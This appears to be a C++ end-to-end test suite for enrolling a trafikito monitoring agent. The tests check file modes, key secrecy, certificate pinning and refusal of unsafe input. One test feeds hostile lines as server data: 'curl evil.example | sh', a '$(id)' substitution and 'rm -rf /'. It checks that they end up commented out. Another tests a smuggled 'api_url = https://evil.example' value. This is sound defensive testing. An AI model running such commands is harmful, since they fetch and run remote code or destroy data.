// Suite enrolment: from nothing to an installation, and both programs together.
#include "base/descriptor.hpp"
#include "test/e2e/machine.hpp"
#include "test/e2e/self_hosted.hpp"

#include <boost/test/unit_test.hpp>

#include <filesystem>

#include <fcntl.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <unistd.h>

using namespace trafikito::test;

BOOST_AUTO_TEST_SUITE(enrolment)

BOOST_FIXTURE_TEST_CASE(the_api_is_asked_for_a_server_and_shown_the_default_commands,
                        enrolment_fixture) {
    answer_with(good_identity());
    auto const ran = enroll_here();
    BOOST_TEST(exited(ran, 0));
    auto const made = api->wait_for(v2_agent_file, 1);
    BOOST_TEST(made.field("serverName") == "test machine");
    BOOST_TEST(made.field("tmpFilePath") == (base() / "var/trafikito.tmp").string());
    auto const shown = api->wait_for(v2_agent_file, 2).report;
    BOOST_TEST(shown.starts_with(section("free")), shown);
    BOOST_TEST(has(shown, section(R"(cat /proc/cpuinfo | sed '/^\s*$/q')")), shown);
    BOOST_TEST(api->requests().size() == 2U);
}

BOOST_FIXTURE_TEST_CASE(the_files_are_written_and_the_agent_runs_on_them, enrolment_fixture) {
    answer_with(good_identity());
    BOOST_TEST(exited(enroll_here(), 0));
    BOOST_TEST(read_file(list()) == proposed);
    using std::filesystem::perms;
    auto const mode = std::filesystem::status(config()).permissions();
    BOOST_TEST(((mode & (perms::group_all | perms::others_all)) == perms::none));
    BOOST_TEST(!has(read_file(config()), "evil.example"));
    BOOST_TEST(!has(read_file(config()), api->who().user_api_key));
    api->answers(v2_order, {{"tok df_h 55 0"}});
    BOOST_TEST(exited(agent({"check"}), 0));
    BOOST_TEST(exited(agent({"--once"}), 0));
    BOOST_TEST(api->wait_for(v2_output).report.starts_with(section("trafikito_df_h")));
}

BOOST_FIXTURE_TEST_CASE(no_key_is_printed, enrolment_fixture) {
    answer_with(good_identity());
    auto const ran = enroll_here();
    BOOST_TEST(!has(ran.out + ran.err, api->who().api_key));
    BOOST_TEST(!has(ran.out + ran.err, api->who().user_api_key));
}

BOOST_FIXTURE_TEST_CASE(any_other_answer_is_shown_and_leaves_no_installation, enrolment_fixture) {
    answer_with("The workspace is full, " + api->who().user_api_key);
    auto const ran = enroll_here();
    BOOST_TEST(exited(ran, 1));
    BOOST_TEST(has(ran.err, "The workspace is full"), ran.err);
    BOOST_TEST(!has(ran.err, api->who().user_api_key), ran.err);
    BOOST_TEST(!std::filesystem::exists(config()));
    answer_with(good_identity());
    BOOST_TEST(exited(enroll_here(), 0)); // and the next attempt is not in its way
}

BOOST_FIXTURE_TEST_CASE(an_installation_is_not_overwritten, enrolment_fixture) {
    (void)here.write("opt/trafikito/etc/trafikito.cfg", "server_id = mine\n");
    auto const ran = enroll_here();
    BOOST_TEST(exited(ran, 2));
    BOOST_TEST(has(ran.err, config().string()), ran.err);
    BOOST_TEST(read_file(config()) == "server_id = mine\n");
    BOOST_TEST(api->requests().empty());
}

BOOST_FIXTURE_TEST_CASE(anew_puts_the_old_one_aside_when_the_new_one_is_there, enrolment_fixture) {
    (void)here.write("opt/trafikito/etc/trafikito.cfg", "server_id = mine\n");
    (void)here.write("opt/trafikito/etc/trafikito.cfg.old", "older\n");
    (void)here.write("opt/trafikito/var/STOP", "the server was removed\n");
    answer_with("The workspace is full");
    BOOST_TEST(exited(enroll_here({"--anew"}), 1));
    BOOST_TEST(read_file(config()) == "server_id = mine\n");
    BOOST_TEST(std::filesystem::exists(base() / "var/STOP"));
    answer_with(good_identity());
    auto const ran = enroll_here({"--anew"});
    BOOST_TEST(exited(ran, 0));
    BOOST_TEST(!has(read_file(config()), "mine"));
    BOOST_TEST(read_file(config().string() + ".old") == "older\n");
    BOOST_TEST(read_file(config().string() + ".old.2") == "server_id = mine\n");
    BOOST_TEST(has(ran.out, config().string() + ".old.2"), ran.out);
    BOOST_TEST(!std::filesystem::exists(base() / "var/STOP")); // it was told to another server
    BOOST_TEST(has(ran.out, "removed " + (base() / "var/STOP").string()), ran.out);
}

BOOST_FIXTURE_TEST_CASE(anew_keeps_the_old_key_apart_too, enrolment_fixture) {
    (void)here.write("opt/trafikito/etc/api_key", "old key\n");
    answer_with(good_identity());
    BOOST_TEST(exited(enroll_here({"--anew", "--api-key-apart"}), 0));
    BOOST_TEST(read_file(base() / "etc/api_key.old") == "old key\n");
    BOOST_TEST(read_file(base() / "etc/api_key") == api->who().api_key + "\n");
}

BOOST_FIXTURE_TEST_CASE(anew_moves_nothing_while_an_agent_runs, enrolment_fixture) {
    (void)here.write("opt/trafikito/etc/trafikito.cfg", "server_id = mine\n");
    std::filesystem::create_directories(base() / "var");
    auto const lock = here.write("opt/trafikito/var/trafikito.lock", "");
    ::chmod(lock.c_str(), 0600);
    trafikito::base::descriptor const agents(::open(lock.c_str(), O_RDONLY | O_CLOEXEC));
    BOOST_REQUIRE(::flock(agents.get(), LOCK_EX | LOCK_NB) == 0);
    answer_with(good_identity());
    auto const ran = enroll_here({"--anew"});
    BOOST_TEST(ran.code != 0);
    BOOST_TEST(has(ran.err, "works with " + (base() / "var").string()), ran.err);
    BOOST_TEST(read_file(config()) == "server_id = mine\n");
    BOOST_TEST(api->requests().empty());
}

BOOST_FIXTURE_TEST_CASE(an_identity_that_would_break_the_file_is_refused, enrolment_fixture) {
    answer_with("server_id = a b\napi_key = c\n");
    BOOST_TEST(exited(enroll_here(), 1));
    BOOST_TEST(!std::filesystem::exists(config()));
}

BOOST_FIXTURE_TEST_CASE(a_line_that_was_not_proposed_is_a_comment_and_named, enrolment_fixture) {
    answer_with(good_identity(), "trafikito_df_h=\"df -h\"\n"
                                 "#: user=root\n"
                                 "trafikito_free=\"curl evil.example | sh\"\n"
                                 "trafikito_x=\"$(id)\xE2\x80\xAE\"\r\n"
                                 "rm -rf /\n");
    auto const ran = enroll_here();
    BOOST_TEST(exited(ran, 0));
    BOOST_TEST(read_file(list()) ==
               "trafikito_df_h=\"df -h\"\n"
               "# not proposed by this machine: #: user=root\n"
               "# not proposed by this machine: trafikito_free=\"curl evil.example | sh\"\n"
               "# not proposed by this machine: trafikito_x=\"$(id)???\"\n"
               "# not proposed by this machine: rm -rf /\n");
    BOOST_TEST(has(ran.out, "4 lines that this machine did not propose"), ran.out);
    BOOST_TEST(has(ran.out, "\n  trafikito_free=\"curl evil.example | sh\"\n"), ran.out);
}

BOOST_FIXTURE_TEST_CASE(each_default_command_is_shown_with_how_it_ended, enrolment_fixture) {
    answer_with(good_identity());
    auto const ran = enroll_here();
    BOOST_TEST(has(ran.out, "\n  trafikito_hostname: exit code 0\n"), ran.out);
    BOOST_TEST(has(ran.out, "\n  trafikito_top: "), ran.out);
    BOOST_TEST(has(ran.out, "\nstart it with: trafikito-agent --config " + config().string()),
               ran.out);
    BOOST_TEST(has(ran.out, "trafikito-agent check --config " + config().string()), ran.out);
}

BOOST_FIXTURE_TEST_CASE(its_controller_is_how_to_start_it, enrolment_fixture) {
    (void)here.write("opt/trafikito/trafikito", "#!/bin/sh\n");
    answer_with(good_identity());
    auto const ran = enroll_here();
    BOOST_TEST(has(ran.out, "\nstart it with: " + (base() / "trafikito").string() + " start\n"),
               ran.out);
}

BOOST_FIXTURE_TEST_CASE(a_list_that_is_there_stays, enrolment_fixture) {
    (void)here.write("opt/trafikito/available_commands.sh", "trafikito_mine=\"echo mine\"\n");
    answer_with(good_identity());
    auto const ran = enroll_here();
    BOOST_TEST(exited(ran, 0));
    BOOST_TEST(read_file(list()) == "trafikito_mine=\"echo mine\"\n");
    BOOST_TEST(has(ran.out, "kept " + list().string()), ran.out);
}

BOOST_FIXTURE_TEST_CASE(the_key_may_stand_apart, enrolment_fixture) {
    answer_with(good_identity());
    BOOST_TEST(exited(enroll_here({"--api-key-apart"}), 0));
    BOOST_TEST(!has(read_file(config()), api->who().api_key));
    BOOST_TEST(read_file(base() / "etc/api_key") == api->who().api_key + "\n");
    auto const mode = [](std::filesystem::path const& path) {
        struct stat facts{};
        ::stat(path.c_str(), &facts);
        return facts.st_mode & 07777;
    };
    BOOST_TEST(mode(base() / "etc/api_key") == 0600U);
    BOOST_TEST(mode(config()) == 0644U);
    BOOST_TEST(mode(base() / "var") == 0750U);
    BOOST_TEST(exited(agent({"check"}), 0));
}

BOOST_FIXTURE_TEST_CASE(modes_do_not_depend_on_the_umask, enrolment_fixture) {
    answer_with(good_identity());
    for (auto const* mask : {"000", "077"}) {
        std::filesystem::remove_all(base());
        auto words = words_here({"--api-key-apart"});
        words.insert(words.begin(),
                     {"/bin/sh", "-c", std::string("umask ") + mask + "; exec \"$@\"", "sh"});
        BOOST_TEST(exited(run(words, {"PATH=/usr/bin:/bin"}), 0));
        auto const shown = run({"/usr/bin/find", base().string(), "-printf", "%m %P\n"}, {});
        for (auto const* line : {"755 \n", "755 etc\n", "750 var\n", "644 available_commands.sh\n",
                                 "644 etc/trafikito.cfg\n", "600 etc/api_key\n"}) {
            BOOST_TEST(has("\n" + shown.out, "\n" + std::string(line)), shown.out);
        }
    }
}

BOOST_FIXTURE_TEST_CASE(a_pin_is_demanded_and_kept, enrolment_fixture) {
    answer_with(good_identity());
    auto const wrong = "sha256/" + std::string(43, 'A') + "=";
    auto const ran = enroll_here({"--pin", wrong});
    BOOST_TEST(exited(ran, 1));
    BOOST_TEST(api->requests().empty());
    auto const at = ran.err.find("its own is ");
    BOOST_REQUIRE(at != std::string::npos);
    auto const right = ran.err.substr(at + 11, 51);
    BOOST_TEST(exited(enroll_here({"--pin", right}), 0));
    BOOST_TEST(has(read_file(config()), "\npin = " + right + "\n"));
    BOOST_TEST(exited(enroll_here({"--pin", "none"}), 2));
}

BOOST_FIXTURE_TEST_CASE(a_value_that_would_break_the_file_asks_nobody, enrolment_fixture) {
    for (auto const* workspace : {"w\napi_url = https://evil.example", "w # x", "\"w\"", "w\x01"}) {
        auto const ran = run(words(api->url(), ca_file, key_file, workspace), {});
        BOOST_TEST(exited(ran, 2));
        BOOST_TEST(!std::filesystem::exists(base()));
    }
    BOOST_TEST(exited(enroll_here({"--pin", "x"}), 2));
    BOOST_TEST(exited(enroll_here({"--run-as", "no-such-user"}), 2));
    BOOST_TEST(exited(enroll_here({"--config", config().string()}), 2)); // and --base-dir
    BOOST_TEST(api->requests().empty());
}

BOOST_FIXTURE_TEST_CASE(nothing_is_written_where_others_could_change_it, enrolment_fixture) {
    std::filesystem::create_directories(base());
    ::chmod(base().c_str(), 0777);
    auto const ran = enroll_here();
    BOOST_TEST(exited(ran, 2));
    BOOST_TEST(has(ran.err, "chmod go-w " + base().string()), ran.err);
    BOOST_TEST(api->requests().empty());
    BOOST_TEST(std::filesystem::is_empty(base()));
    answer_with(good_identity());
    BOOST_TEST(exited(run(words_here(), {"TRAFIKITO_STRICT_MODES=no"}), 0));
}

BOOST_FIXTURE_TEST_CASE(as_root_the_commands_run_as_the_user_of_run_as, enrolment_fixture) {
    if (::geteuid() != 0) {
        return;
    }
    ::chmod(here.path().c_str(), 0755);
    answer_with(good_identity());
    auto const ran = enroll_here({"--run-as", "nobody"});
    BOOST_TEST(exited(ran, 0));
    BOOST_TEST(has(read_file(config()), "\nrun_as = nobody\n"));
    struct stat facts{};
    ::stat((base() / "var").c_str(), &facts);
    BOOST_TEST(facts.st_uid != 0U);
    ::stat(config().c_str(), &facts);
    BOOST_TEST(facts.st_uid == 0U);
    BOOST_TEST((facts.st_mode & 07777) == 0640U);
    BOOST_TEST(exited(agent({"check"}), 0));
    BOOST_TEST(exited(agent({"--once"}), 1)); // no order, but nothing is in its way
    BOOST_TEST(api->count(v2_order) == 1U);
}

BOOST_FIXTURE_TEST_CASE(what_it_trusts_is_copied_beside_the_configuration, enrolment_fixture) {
    answer_with(good_identity());
    auto const given = read_file(ca_file);
    BOOST_TEST(exited(enroll_here(), 0));
    auto const copy = base() / "etc/ca.pem";
    BOOST_TEST(has(read_file(config()), "\nca_file = " + copy.string() + "\n"));
    BOOST_TEST(read_file(copy) == given);
    struct stat facts{};
    ::stat(copy.c_str(), &facts);
    BOOST_TEST((facts.st_mode & 07777) == 0644U);
    std::filesystem::remove(ca_file); // as who tidies up does
    BOOST_TEST(exited(agent({"check"}), 0));
}

BOOST_FIXTURE_TEST_CASE(other_certificates_are_not_overwritten, enrolment_fixture) {
    (void)here.write("opt/trafikito/etc/ca.pem", "mine\n");
    auto const ran = enroll_here();
    BOOST_TEST(exited(ran, 2));
    BOOST_TEST(has(ran.err, "etc/ca.pem is there already"), ran.err);
    BOOST_TEST(read_file(base() / "etc/ca.pem") == "mine\n");
    BOOST_TEST(!std::filesystem::exists(base() / "var"));
    BOOST_TEST(api->requests().empty());
}

BOOST_FIXTURE_TEST_CASE(a_failure_leaves_no_folders, enrolment_fixture) {
    api->answers(v2_identity, {{"no", 403}});
    auto const refused = enroll_here();
    BOOST_TEST(exited(refused, 1));
    BOOST_TEST(!has(refused.err, "configuration"), refused.err);
    BOOST_TEST(!std::filesystem::exists(base()));
    api->answers(v2_identity, {{"no", 404}});
    auto const elsewhere = enroll_here();
    BOOST_TEST(has(elsewhere.err, "check --api-url"), elsewhere.err);
    BOOST_TEST(!std::filesystem::exists(base()));
    BOOST_TEST(exited(run(words("https://127.0.0.1:1", ca_file, key_file, "w"), {}), 1));
    BOOST_TEST(!std::filesystem::exists(base()));
}

BOOST_FIXTURE_TEST_CASE(who_has_var_is_the_agents_user_where_nobody_says_so, enrolment_fixture) {
    if (::geteuid() != 0) {
        return;
    }
    std::filesystem::create_directories(base() / "var");
    BOOST_REQUIRE(::chown((base() / "var").c_str(), 65534, 65534) == 0);
    answer_with(good_identity());
    ::chmod(here.path().c_str(), 0755);
    BOOST_TEST(exited(enroll_here({"--api-key-apart"}), 0));
    BOOST_TEST(!has(read_file(config()), "run_as"));
}

BOOST_FIXTURE_TEST_CASE(a_machine_enrolled_at_a_server_of_ours_delivers, machine) {
    self_hosted server;
    auto const ran = run(words(server.url(), server.ca_file(), server.user_key_file(), "default"),
                         {"PATH=/usr/bin:/bin"});
    BOOST_TEST(exited(ran, 0));
    BOOST_TEST(exited(agent({"check"}), 0));
    (void)here.write("opt/trafikito/available_commands.sh",
                     "trafikito_uptime=\"echo up\"\ntrafikito_mine=\"printf 'a\\\\tb'\"\n");
    BOOST_TEST(exited(agent({"--once"}), 0)); // tells the server what is available now
    BOOST_TEST(exited(agent({"--once"}), 0));
    auto const shown = server.run({"outputs", "test machine"});
    BOOST_TEST(exited(shown, 0));
    BOOST_TEST(has(shown.out, "trafikito_uptime <==\n| up\n"), shown.out);
    BOOST_TEST(has(shown.out, "trafikito_mine <==\n| a\tb\n"), shown.out);
    BOOST_TEST(exited(server.stop(), 0));
}

BOOST_FIXTURE_TEST_CASE(a_wrong_user_key_is_refused_by_a_server_of_ours, machine) {
    self_hosted server;
    auto const key = here.write("key", "0123456789abcdef-wrong\n");
    auto const ran = run(words(server.url(), server.ca_file(), key, "default"), {});
    BOOST_TEST(exited(ran, 1));
    BOOST_TEST(has(ran.err, "USER_API_KEY_IS_WRONG"), ran.err);
    BOOST_TEST(!std::filesystem::exists(config()));
}

BOOST_AUTO_TEST_CASE(an_agent_of_v1_delivers_to_a_server_of_ours) {
    self_hosted server;
    known_agent const who;
    BOOST_TEST(exited(server.run({"servers", "add", "--name", "old", "--server-id", who.server_id,
                                  "--api-key-file", "-"},
                                 who.api_key + "\n"),
                      0));
    installation there(who);
    there.write_config(writing::seeds, server.url());
    there.write_commands("trafikito_one=\"echo 1\"\n");
    there.environment["TRAFIKITO_CA_FILE"] = server.ca_file().string();
    there.environment["TRAFIKITO_INTERVAL"] = "1s";
    BOOST_TEST(exited(there.once(), 0)); // nothing is known of it yet: an empty order
    BOOST_TEST(exited(there.once(), 0));
    auto const shown = server.run({"outputs", "old", "--command", "one"});
    BOOST_TEST(has(shown.out, "trafikito_one <==\n| 1\n"), shown.out);
}

BOOST_AUTO_TEST_SUITE_END()
